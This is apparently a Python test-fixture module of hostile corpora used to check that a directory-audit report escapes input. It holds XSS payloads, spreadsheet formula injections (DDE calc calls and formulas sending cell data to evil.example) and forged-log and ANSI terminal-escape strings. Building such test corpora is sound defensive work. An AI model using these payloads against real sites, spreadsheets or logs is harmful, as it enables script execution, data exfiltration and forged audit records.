"""Hostile directory text: XSS, spreadsheet-formula and terminal-injection corpora.

Every XSS payload would set ``window.__xss`` if any of it ever became markup, an attribute, a
URL or script in the report (the browser tripwire). Contexts: text, attribute (quoted and
unquoted), URL, script and JSON-in-script, style, SVG/MathML, template syntax, and bidi /
zero-width characters that change what a reviewer sees.
"""

from __future__ import annotations

T = "window.__xss=1"

XSS: tuple[str, ...] = (
    # text context
    f"<script>{T}</script>",
    f"<SCRIPT>{T}</SCRIPT>",
    f"<scr<script>ipt>{T}</scr</script>ipt>",
    f"<script src=data:text/javascript,{T}></script>",
    f"<img src=x onerror={T}>",
    f"<img/src=x/onerror={T}>",
    f'<img src="x" onerror="{T}">',
    f"<body onload={T}>",
    f"<iframe srcdoc='<script>parent.{T}</script>'></iframe>",
    f"<iframe src=javascript:parent.{T}></iframe>",
    f"<object data=javascript:{T}></object>",
    f"<embed src=javascript:{T}>",
    f"<video><source onerror={T}></video>",
    f"<audio src=x onerror={T}>",
    f"<details open ontoggle={T}>",
    f"<input autofocus onfocus={T}>",
    f"<marquee onstart={T}>",
    f"<form><button formaction=javascript:{T}>x</button></form>",
    f"<base href=javascript:{T}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{T}'>",
    f"<link rel=import href=data:text/html,<script>{T}</script>>",
    # leaving an attribute value
    f'"><script>{T}</script>',
    f"'><script>{T}</script>",
    f'" onmouseover="{T}" x="',
    f"' onmouseover='{T}' x='",
    f'" autofocus onfocus="{T}" x="',
    f"x onerror={T} ",
    f'`"><img src=x onerror={T}>',
    # URL context
    f"javascript:{T}",
    f"JaVaScRiPt:{T}",
    f" javascript:{T}",
    f"java\tscript:{T}",
    f"data:text/html,<script>{T}</script>",
    f"vbscript:{T}",
    # script and JSON-in-script contexts
    f"</script><script>{T}</script>",
    f"</SCRIPT ><script>{T}</script>",
    f"<!--<script>{T}</script>-->",
    f"--><script>{T}</script><!--",
    f"]]><script>{T}</script>",
    f'";{T};"',
    f"';{T};'",
    f"\\';{T};//",
    f"\u2028{T}\u2029",
    f'{{"a":"</script><script>{T}</script>"}}',
    # style context
    f"</style><script>{T}</script>",
    f"<style>@import 'javascript:{T}';</style>",
    f"<div style=\"background:url('javascript:{T}')\">x</div>",
    # SVG and MathML
    f"<svg onload={T}>",
    f"<svg><script>{T}</script></svg>",
    f"<svg><animate onbegin={T} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{T}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={T}>",
    # template and markup-ish syntax
    "{{7*7}}{{constructor.constructor('window.__xss=1')()}}",
    "${alert(1)}#{7*7}<%= 7*7 %>",
    f'<noscript><p title="</noscript><img src=x onerror={T}>">',
    f"<template><script>{T}</script></template>",
    f"<a href=javascript:{T}>click</a>",
    # what a reviewer sees (bidi override, zero-width, look-alike)
    "admin\u202egnp.exe",
    "WMP-\u200bDomain Admins",
    "\u2066Domain Admins\u2069 (not really)",
    "Ⅾomain Admins",
    "\ufeffBOM-prefixed",
    # plain metacharacters
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "a & b < c > d \" e ' f",
)

#: Values a spreadsheet would treat as formulas (OWASP CSV injection, ASVS 5.0 1.2.10).
FORMULA: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=\u200b1+1",
    "'=1+1",
    "%0A=1+1",
    "=1+1;=2+2",
    ";=1+1",
)

#: Terminal and log injection: line breaks, ANSI escapes (colour, cursor, clear screen, OSC 8
#: hyperlink and title), backspaces and bidi overrides.
TERMINAL: tuple[str, ...] = (
    "evil\r\naccessaudit: error: forged line",
    "evil\naccessaudit: 0 findings, all clear",
    "\x1b[2J\x1b[Hcleared",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;forged title\x07",
    "back\x08\x08\x08\x08spaced",
    "bidi\u202etxt.exe",
)
